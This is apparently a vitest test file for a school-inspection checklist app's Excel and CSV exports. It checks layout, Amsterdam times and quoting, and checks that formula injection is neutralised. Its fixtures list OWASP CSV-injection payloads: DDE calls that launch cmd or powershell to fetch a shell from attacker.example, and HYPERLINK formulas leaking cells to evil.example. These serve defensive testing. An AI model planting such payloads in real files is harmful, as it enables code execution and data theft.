// The export files themselves: what someone sees when they open them in Excel.
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { buildChecklistCsv, buildChecklistXlsx, formatAmsterdamDateTime, toSafeText } from '../../src/checklists/export.js';
import type { Checklist, ChecklistEvent, Step } from '../../src/checklists/model.js';

const LONG_NOTE = [
  'Analyse rekenen groep 8: de resultaten liggen boven de signaleringswaarde.',
  ...Array.from({ length: 30 }, (_, i) => `Regel ${i + 1}; zie "bijlage ${i + 1}" in de map Kwaliteit.`),
  'Einde van de notitie.',
].join('\n');

function step(position: number, over: Partial<Step> = {}): Step {
  return {
    position,
    key: `s${position}`,
    title: { nl: `Stap ${position}: verzamel data`, en: `Step ${position}: collect data` },
    guidance: { nl: '', en: '' },
    link: null,
    status: 'open',
    ownerAad: null,
    ownerName: null,
    dueDate: null,
    note: '',
    evidenceUrl: '',
    items: [],
    updatedBy: null,
    updatedAt: null,
    ...over,
  };
}

const INJECTION = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';

function fixture(): { checklist: Checklist; events: ChecklistEvent[] } {
  const checklist: Checklist = {
    id: 42,
    publicId: '00000000-0000-4000-8000-000000000042',
    tenantId: '11111111-2222-4333-8444-555555555555',
    templateKey: 'inspection',
    investigationType: null,
    endDate: null,
    title: 'Inspectiebezoek Café de Regenboog; maart "2027"',
    schoolId: 3,
    schoolName: 'De Regenboog',
    targetDate: '2027-03-09',
    language: 'nl',
    conversationId: '19:abc@thread.tacv2',
    serviceUrl: 'https://smba.trafficmanager.net/emea/',
    teamId: null,
    cardActivityId: null,
    cardPostKey: 'checklist:42:card',
    createdBy: 'aad-sanne',
    createdAt: new Date('2027-01-05T09:30:00Z'),
    completedAt: null,
    version: 4,
    steps: [
      step(1, { status: 'klaar', ownerAad: 'aad-joost', ownerName: 'Joost Bakker', dueDate: '2027-01-26', updatedBy: 'aad-joost', updatedAt: new Date('2027-07-01T12:05:00Z') }),
      step(2, {
        status: 'bezig',
        ownerName: INJECTION,
        note: LONG_NOTE,
        evidenceUrl: 'https://stichting.sharepoint.com/sites/kwaliteit/analyse.docx',
        updatedBy: 'aad-sanne',
        updatedAt: new Date('2027-01-06T08:00:00Z'),
      }),
      step(3, { status: 'nvt', note: '- eerste punt\n- tweede punt' }),
    ],
  };
  const events: ChecklistEvent[] = [
    { position: null, actorName: 'Sanne de Vries', field: 'started', oldValue: null, newValue: checklist.title, at: new Date('2027-01-05T09:30:00Z') },
    { position: 2, actorName: 'Sanne de Vries', field: 'note', oldValue: null, newValue: LONG_NOTE, at: new Date('2027-01-06T08:00:00Z') },
    { position: 1, actorName: 'Joost Bakker', field: 'owner', oldValue: null, newValue: 'Joost Bakker', at: new Date('2027-07-01T12:04:00Z') },
    { position: 1, actorName: 'Joost Bakker', field: 'status', oldValue: 'bezig', newValue: 'klaar', at: new Date('2027-07-01T12:05:00Z') },
  ];
  return { checklist, events };
}

async function readWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  return wb;
}

/** Every row of a sheet as plain values (hyperlinks as their text, dates as they are). */
function rowsOf(ws: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  ws.eachRow({ includeEmpty: true }, (row, n) => {
    const values = (row.values as unknown[]).slice(1).map((v) => (v && typeof v === 'object' && 'hyperlink' in v ? (v as unknown as { text: string }).text : v));
    rows[n - 1] = values;
  });
  return rows;
}

function rowStartingWith(rows: unknown[][], first: unknown): unknown[] {
  const row = rows.find((r) => r?.[0] === first);
  if (!row) throw new Error(`no row starting with ${String(first)}`);
  return row;
}

/** Splits CSV text into rows of cells, honouring quotes; a test-side reader. */
function parseCsv(text: string, separator = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('the xlsx export', () => {
  it('has a Stappen sheet with every step, its status in words, owner, due date, the whole note and the evidence link', async () => {
    const { checklist, events } = fixture();
    const wb = await readWorkbook(await buildChecklistXlsx(checklist, events, 'nl'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Stappen', 'Logboek']);
    const rows = rowsOf(wb.getWorksheet('Stappen')!);
    expect(rowStartingWith(rows, 'Nr.')).toEqual(['Nr.', 'Stap', 'Status', 'Eigenaar', 'Uiterlijk', 'Notitie', 'Bewijslink', 'Laatst gewijzigd door', 'Laatst gewijzigd op']);
    const [one, two, three] = [rowStartingWith(rows, 1), rowStartingWith(rows, 2), rowStartingWith(rows, 3)];
    expect(one.slice(0, 5)).toEqual([1, 'Stap 1: verzamel data', 'Klaar', 'Joost Bakker', new Date(Date.UTC(2027, 0, 26))]);
    expect(one[7]).toBe('Joost Bakker');
    expect(one[8]).toEqual(new Date(Date.UTC(2027, 6, 1, 14, 5))); // 12:05 UTC is 14:05 summer time in Amsterdam
    expect(two[2]).toBe('Bezig');
    expect(two[5]).toBe(LONG_NOTE);
    expect(two[6]).toBe('https://stichting.sharepoint.com/sites/kwaliteit/analyse.docx');
    expect(three[2]).toBe('Niet van toepassing');
  });

  it('makes the evidence link clickable', async () => {
    const { checklist, events } = fixture();
    const wb = await readWorkbook(await buildChecklistXlsx(checklist, events, 'nl'));
    const ws = wb.getWorksheet('Stappen')!;
    let link: unknown;
    ws.eachRow((row) => {
      if (row.getCell(1).value === 2) link = row.getCell(7).value;
    });
    expect(link).toMatchObject({ hyperlink: 'https://stichting.sharepoint.com/sites/kwaliteit/analyse.docx' });
  });

  it('starts with the checklist title, school, target date and when it started and completed', async () => {
    const { checklist, events } = fixture();
    const done = { ...checklist, completedAt: new Date('2027-03-01T15:00:00Z') };
    const rows = rowsOf((await readWorkbook(await buildChecklistXlsx(done, events, 'nl', { exportedAt: new Date('2027-03-02T10:00:00Z') }))).getWorksheet('Stappen')!);
    expect(rows.slice(0, 6)).toEqual([
      ['Checklist', 'Inspectiebezoek Café de Regenboog; maart "2027"'],
      ['School', 'De Regenboog'],
      ['Datum van het bezoek', new Date(Date.UTC(2027, 2, 9))],
      ['Gestart', new Date(Date.UTC(2027, 0, 5, 10, 30))],
      ['Afgerond', new Date(Date.UTC(2027, 2, 1, 16, 0))],
      ['Geëxporteerd', new Date(Date.UTC(2027, 2, 2, 11, 0))],
    ]);
  });

  it('says a checklist is not completed yet, and shows date cells in yyyy-mm-dd', async () => {
    const { checklist, events } = fixture();
    const ws = (await readWorkbook(await buildChecklistXlsx(checklist, events, 'nl'))).getWorksheet('Stappen')!;
    expect(ws.getCell('B5').value).toBe('Nog niet afgerond');
    expect(ws.getCell('B3').numFmt).toBe('yyyy-mm-dd');
    expect(ws.getCell('B4').numFmt).toBe('yyyy-mm-dd hh:mm');
  });

  it('has a Logboek sheet with who changed what when, old and new values in words, the long note whole', async () => {
    const { checklist, events } = fixture();
    const rows = rowsOf((await readWorkbook(await buildChecklistXlsx(checklist, events, 'nl'))).getWorksheet('Logboek')!);
    expect(rowStartingWith(rows, 'Wanneer')).toEqual(['Wanneer', 'Wie', 'Stap', 'Wat', 'Oude waarde', 'Nieuwe waarde']);
    const log = rows.filter((r) => r?.[0] instanceof Date);
    expect(log).toEqual([
      [new Date(Date.UTC(2027, 0, 5, 10, 30)), 'Sanne de Vries', undefined, 'Checklist gestart', undefined, checklist.title],
      [new Date(Date.UTC(2027, 0, 6, 9, 0)), 'Sanne de Vries', '2. Stap 2: verzamel data', 'Notitie', undefined, LONG_NOTE],
      [new Date(Date.UTC(2027, 6, 1, 14, 4)), 'Joost Bakker', '1. Stap 1: verzamel data', 'Eigenaar', undefined, 'Joost Bakker'],
      [new Date(Date.UTC(2027, 6, 1, 14, 5)), 'Joost Bakker', '1. Stap 1: verzamel data', 'Status', 'Bezig', 'Klaar'],
    ]);
  });

  it('uses English sheet names, headers and words for an English checklist', async () => {
    const { checklist, events } = fixture();
    const wb = await readWorkbook(await buildChecklistXlsx({ ...checklist, language: 'en' }, events, 'en'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Steps', 'Log']);
    const steps = rowsOf(wb.getWorksheet('Steps')!);
    expect(rowStartingWith(steps, 'No.')).toEqual(['No.', 'Step', 'Status', 'Owner', 'Due', 'Note', 'Evidence link', 'Last changed by', 'Last changed at']);
    expect(rowStartingWith(steps, 1).slice(1, 3)).toEqual(['Step 1: collect data', 'Done']);
    expect(rowStartingWith(steps, 3)[2]).toBe('Not applicable');
    expect(rowStartingWith(steps, 'Completed')[1]).toBe('Not completed yet');
    const log = rowsOf(wb.getWorksheet('Log')!);
    expect(log.find((r) => r?.[3] === 'Status')?.slice(4)).toEqual(['In progress', 'Done']);
  });

  it('shows a name that looks like a formula as text, never as a formula', async () => {
    const { checklist, events } = fixture();
    const ws = (await readWorkbook(await buildChecklistXlsx(checklist, events, 'nl'))).getWorksheet('Stappen')!;
    let owner: ExcelJS.Cell | undefined;
    ws.eachRow((row) => {
      if (row.getCell(1).value === 2) owner = row.getCell(4);
    });
    expect(owner?.type).toBe(ExcelJS.ValueType.String);
    expect(owner?.value).toBe(`'${INJECTION}`);
  });
});

describe('the CSV export', () => {
  it('opens in Dutch Excel with accents intact: UTF-8 with a byte order mark, semicolons, CRLF', () => {
    const { checklist, events } = fixture();
    const csv = buildChecklistCsv(checklist, events, 'nl');
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toContain('Café');
    expect(csv.slice(1)).toMatch(/^Checklist;/);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('puts the steps table, a blank line, then the log table under their own headings', () => {
    const { checklist, events } = fixture();
    const rows = parseCsv(buildChecklistCsv(checklist, events, 'nl').slice(1));
    const stepsAt = rows.findIndex((r) => r.length === 1 && r[0] === 'Stappen');
    const logAt = rows.findIndex((r) => r.length === 1 && r[0] === 'Logboek');
    expect(stepsAt).toBeGreaterThan(0);
    expect(rows[stepsAt - 1]).toEqual(['']);
    expect(rows[stepsAt + 1]?.[0]).toBe('Nr.');
    expect(rows.slice(stepsAt + 2, stepsAt + 5).map((r) => r[0])).toEqual(['1', '2', '3']);
    expect(rows[logAt - 1]).toEqual(['']);
    expect(rows[logAt + 1]).toEqual(['Wanneer', 'Wie', 'Stap', 'Wat', 'Oude waarde', 'Nieuwe waarde']);
    expect(rows.slice(logAt + 2)).toContainEqual(['2027-07-01 14:05', 'Joost Bakker', '1. Stap 1: verzamel data', 'Status', 'Bezig', 'Klaar']);
  });

  it('keeps quotes, semicolons and line breaks inside one cell', () => {
    const { checklist, events } = fixture();
    const csv = buildChecklistCsv(checklist, events, 'nl');
    expect(csv).toContain('"Inspectiebezoek Café de Regenboog; maart ""2027"""');
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual(['Checklist', 'Inspectiebezoek Café de Regenboog; maart "2027"']);
    const two = rows.find((r) => r[0] === '2')!;
    expect(two).toHaveLength(9);
    expect(two[5]).toBe(LONG_NOTE);
    expect(two[6]).toBe('https://stichting.sharepoint.com/sites/kwaliteit/analyse.docx');
  });

  it('neutralises a =HYPERLINK(...) name and a note starting with a dash, so Excel shows them as text', () => {
    const { checklist, events } = fixture();
    const rows = parseCsv(buildChecklistCsv(checklist, events, 'nl').slice(1));
    expect(rows.find((r) => r[0] === '2')![3]).toBe(`'${INJECTION}`);
    expect(rows.find((r) => r[0] === '3')![5]).toBe("'- eerste punt\n- tweede punt");
  });

  it('writes dates as yyyy-mm-dd and times as Amsterdam local time', () => {
    const { checklist, events } = fixture();
    const rows = parseCsv(buildChecklistCsv(checklist, events, 'nl').slice(1));
    expect(rows.find((r) => r[0] === 'Datum van het bezoek')).toEqual(['Datum van het bezoek', '2027-03-09']);
    expect(rows.find((r) => r[0] === 'Gestart')).toEqual(['Gestart', '2027-01-05 10:30']); // winter time: UTC+1
    expect(rows.find((r) => r[0] === '1')![8]).toBe('2027-07-01 14:05'); // summer time: UTC+2
  });
});

// OWASP's CSV injection page and the payloads it grew from (DDE, HYPERLINK, tab and CR first), plus
// the same behind leading spaces or quotes, and a second cell smuggled in after a separator.
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1&A2,"Error: please click for further information")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "\n=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=10+20+cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
];
/** What toSafeText must neutralise: a trigger, also behind spaces and quotes. */
const TRIGGER = /^[\s"']*[=+\-@＝＋－＠]/;
/** What a spreadsheet would run: a trigger not behind the neutralising leading '. */
const LIVE = /^[\s"]*[=+\-@＝＋－＠]/;
/** Payloads that start a cell in the middle of the text if a separator is not quoted. */
const SMUGGLED = ['gewoon;=1+2', 'plain,=1+2', 'tab\t=1+2', 'regel\n=1+2'];

function injected(): Checklist {
  const { checklist } = fixture();
  const all = [...OWASP_PAYLOADS, ...SMUGGLED];
  return {
    ...checklist,
    title: OWASP_PAYLOADS[0]!,
    schoolName: OWASP_PAYLOADS[1]!,
    steps: all.map((p, i) => step(i + 1, { ownerName: p, note: p, evidenceUrl: p })),
  };
}

describe('cells that a spreadsheet would run as a formula (OWASP CSV injection)', () => {
  it.each(['nl', 'en'] as const)('writes every payload in the %s CSV as text with a leading quote, in name, note and link alike', (language) => {
    const separator = language === 'nl' ? ';' : ',';
    const rows = parseCsv(buildChecklistCsv(injected(), [], language).slice(1), separator);
    const payloads = [...OWASP_PAYLOADS, ...SMUGGLED];
    payloads.forEach((p, i) => {
      const row = rows.find((r) => r[0] === String(i + 1))!;
      const expected = TRIGGER.test(p) ? `'${p}` : p;
      expect([row[3], row[5], row[6]]).toEqual([expected, expected, expected]);
    });
    expect(rows[0]).toEqual([language === 'nl' ? 'Checklist' : 'Checklist', `'${OWASP_PAYLOADS[0]}`]);
  });

  it.each(['nl', 'en'] as const)('leaves no cell of the %s CSV starting with a formula character, whichever separator a spreadsheet reads it with', (language) => {
    const csv = buildChecklistCsv(injected(), [], language).slice(1);
    for (const separator of [';', ',', '\t']) {
      const cells = parseCsv(csv, separator).flat();
      expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
    }
  });

  it('quotes the cells that hold a separator, a quote or a line break, as RFC 4180 says', () => {
    const csv = buildChecklistCsv(injected(), [], 'en');
    expect(csv).toContain('"\'=1+2"";=1+2"'); // OWASP's own example, escaped as it shows it
    expect(csv).toContain('"\'=1+2\'"" ;,=1+2"');
    expect(csv).toContain('"gewoon;=1+2"');
    expect(csv).toContain('"plain,=1+2"');
  });

  it('stores every payload in the xlsx as a text cell with a leading quote, never as a formula', async () => {
    const buffer = await buildChecklistXlsx(injected(), [], 'en');
    const ws = (await readWorkbook(buffer)).getWorksheet('Steps')!;
    const payloads = [...OWASP_PAYLOADS, ...SMUGGLED];
    const seen: unknown[] = [];
    ws.eachRow((row) => {
      const n = row.getCell(1).value;
      if (typeof n !== 'number') return;
      const p = payloads[n - 1]!;
      const owner = row.getCell(4);
      const note = row.getCell(6);
      expect([owner.type, note.type]).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
      seen.push(owner.value, note.value);
      // XML turns a stored CR into LF; what matters is the leading quote.
      expect(owner.value).toBe((TRIGGER.test(p) ? `'${p}` : p).replace(/\r/g, '\n'));
    });
    expect(seen).toHaveLength(payloads.length * 2);
    // The file itself: no formula element in any sheet.
    const zip = await JSZip.loadAsync(buffer);
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets.length).toBe(2);
    for (const f of sheets) expect(await zip.file(f)!.async('string')).not.toMatch(/<f[ >]/);
  });
});

describe('the separator of an English export', () => {
  it('is a comma, the list separator English Excel expects, with cells holding commas quoted', () => {
    const { checklist, events } = fixture();
    const csv = buildChecklistCsv({ ...checklist, title: 'Inspection, March 2027', language: 'en' }, events, 'en');
    expect(csv.slice(1)).toMatch(/^Checklist,"Inspection, March 2027"\r\n/);
    const rows = parseCsv(csv.slice(1), ',');
    expect(rows.find((r) => r[0] === 'No.')).toEqual(['No.', 'Step', 'Status', 'Owner', 'Due', 'Note', 'Evidence link', 'Last changed by', 'Last changed at']);
    expect(rows.find((r) => r[0] === '2')![5]).toBe(LONG_NOTE);
  });
});

describe('text that is safe in a spreadsheet', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+31 6 1234', "'+31 6 1234"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    [' =1+1', "' =1+1"],
    ['"@SUM(A1)"', `'"@SUM(A1)"`],
    ['e-mail: a@b.nl', 'e-mail: a@b.nl'],
    ['gewoon tekst = prima', 'gewoon tekst = prima'],
    ['bel\u0007 mij', 'bel mij'],
  ])('shows %j as %j', (input, expected) => {
    expect(toSafeText(input)).toBe(expected);
  });

  it('formats a moment in Amsterdam local time across the switch to summer time', () => {
    expect(formatAmsterdamDateTime(new Date('2027-03-28T00:59:00Z'))).toBe('2027-03-28 01:59');
    expect(formatAmsterdamDateTime(new Date('2027-03-28T01:00:00Z'))).toBe('2027-03-28 03:00');
  });
});
